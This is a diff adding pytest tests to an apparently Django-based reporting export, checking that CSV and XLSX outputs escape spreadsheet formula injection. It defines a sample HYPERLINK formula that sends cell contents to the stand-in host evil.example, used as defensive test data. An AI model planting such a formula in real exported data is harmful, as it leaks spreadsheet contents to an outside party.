@@ -1,3 +1,4 @@
+import csv
 import datetime as dt
 import io
 import re
@@ -200,3 +201,47 @@ def test_query_count_does_not_grow_with_cases(
         response = admin_client.get(url, {"year": 2026})
     assert "14" in response.content.decode()
     assert len(large.captured_queries) == len(small.captured_queries)
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def hostile_agency_name(year_2026):
+    """An agency that incidents were reported to, renamed to a spreadsheet formula."""
+    from cases.models import Incident
+    from partnerships.models import Agency
+
+    agency = Agency.objects.filter(areas__slug="hertsmere").first()
+    Incident.objects.filter(case__area__slug="hertsmere").update(reported_to=agency)
+    Agency.objects.filter(pk=agency.pk).update(name=HYPERLINK)
+    return HYPERLINK
+
+
+def test_csv_export_writes_a_formula_like_name_as_inert_text(admin_client, hostile_agency_name):
+    response = admin_client.get(reverse("reporting:export", args=["csv"]), {"year": 2026})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    agency_rows = [r for r in rows if r and r[0] == "Agency reported to"]
+    assert ["Agency reported to", "'" + HYPERLINK] in [r[:2] for r in agency_rows]
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+    assert ["Applications received", "0", "1", "6"] in rows  # figures are still numbers
+
+
+def test_xlsx_export_writes_a_formula_like_name_as_a_string(admin_client, hostile_agency_name):
+    response = admin_client.get(reverse("reporting:export", args=["xlsx"]), {"year": 2026})
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for row in book["Breakdown"].iter_rows() for c in row if c.value == HYPERLINK]
+    assert cells and all(c.data_type == "s" for c in cells)
+    figures = {r[0].value: r[1:] for r in book["Figures"].iter_rows()}
+    assert [c.data_type for c in figures["Applications received"]] == ["n", "n", "n"]
+
+
+def test_exports_keep_negative_numbers_as_numbers():
+    from reporting import exports
+
+    sheets = {"Figures": [["Figure", "Change"], ["Applications received", -3], ["-3", 2]]}
+    rows = list(csv.reader(io.StringIO(exports.to_csv(sheets).decode("utf-8-sig"))))
+    assert ["Applications received", "-3"] in rows
+    assert ["'-3", "2"] in rows  # text is escaped, even when it looks like a number
+    sheet = load_workbook(io.BytesIO(exports.to_xlsx(sheets)))["Figures"]
+    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n"
